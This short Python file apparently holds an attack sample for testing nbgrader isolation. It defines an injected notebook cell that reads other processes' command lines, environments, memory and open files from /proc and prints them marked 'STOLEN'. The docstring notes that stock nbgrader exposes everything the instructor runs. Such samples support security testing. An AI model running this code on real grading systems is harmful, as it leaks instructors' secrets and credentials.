"""Reads other processes' command lines, environment, memory and open files from /proc.

Stock nbgrader: those of everything the instructor runs.
"""

CELLS = {
    "extra first cell": """
import glob
import os

for path in glob.glob("/proc/[0-9]*/*") + glob.glob("/proc/*"):
    try:
        print(path, open(path, "rb").read(2000))
        print("STOLEN")
    except OSError:
        pass
print(os.listdir("/proc"))
"""
}
